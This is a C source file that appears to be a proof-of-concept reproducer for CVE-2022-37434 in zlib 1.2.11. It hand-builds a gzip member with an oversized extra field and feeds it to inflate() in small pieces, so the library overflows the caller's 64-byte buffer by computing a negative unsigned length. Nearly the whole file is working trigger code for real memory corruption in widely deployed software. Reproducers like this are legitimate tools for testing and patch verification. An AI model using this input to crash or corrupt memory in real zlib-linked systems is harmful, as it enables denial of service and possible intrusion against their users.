/* SPDX-License-Identifier: MIT */
/*
 * cve_2022_37434.c - feeds inflate(), in pieces, a gzip header whose extra field is longer than the
 * caller's buffer. zlib 1.2.11 computes the room that is left as an unsigned difference, which goes below
 * zero, and copies about 4 GiB.
 *
 * The caller does everything right: it asks for at most EXTRA_ROOM bytes of the field.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "zlib.h"

#define EXTRA_ROOM  64
#define EXTRA_FIELD 300
#define PIECE	    48

/* Make a gzip member by hand: a header with the FEXTRA flag, then an empty deflate stream. */
static size_t compose(unsigned char *out)
{
	static const unsigned char header[] = {
		0x1f,
		0x8b,
		8, /* magic, deflate */
		4, /* FEXTRA */
		0,
		0,
		0,
		0, /* no time */
		0,
		3, /* no hints, Unix */
		EXTRA_FIELD & 255,
		EXTRA_FIELD >> 8,
	};
	static const unsigned char body[] = {3, 0, 0, 0, 0, 0, 0, 0, 0, 0};
	size_t at = sizeof(header), i;

	memcpy(out, header, sizeof(header));
	for (i = 0; i < EXTRA_FIELD; i++)
		out[at++] = (unsigned char)('a' + i % 26);
	memcpy(out + at, body, sizeof(body));
	return at + sizeof(body);
}

int main(int argc, char **argv)
{
	unsigned char *input = malloc(12 + EXTRA_FIELD + 10), *extra = malloc(EXTRA_ROOM),
		      output[16];
	gz_header header = {0};
	z_stream stream = {0};
	size_t size, done;
	int status = Z_OK;

	if (!input || !extra)
		return 2;
	size = compose(input);
	header.extra = extra;
	header.extra_max = EXTRA_ROOM;
	if (inflateInit2(&stream, 15 + 16) != Z_OK || inflateGetHeader(&stream, &header) != Z_OK)
		return 2;
	for (done = 0; done < size && status == Z_OK; done += PIECE) {
		stream.next_in = input + done;
		stream.avail_in = (uInt)(size - done < PIECE ? size - done : PIECE);
		stream.next_out = output;
		stream.avail_out = sizeof(output);
		status = inflate(&stream, Z_NO_FLUSH); /* the bug is reported from here */
	}
	printf("extra field of %u bytes, %d wanted; inflate: %d\n", header.extra_len, EXTRA_ROOM,
	       status);
	inflateEnd(&stream);
	free(extra);
	free(input);
	return status != Z_STREAM_END;
}
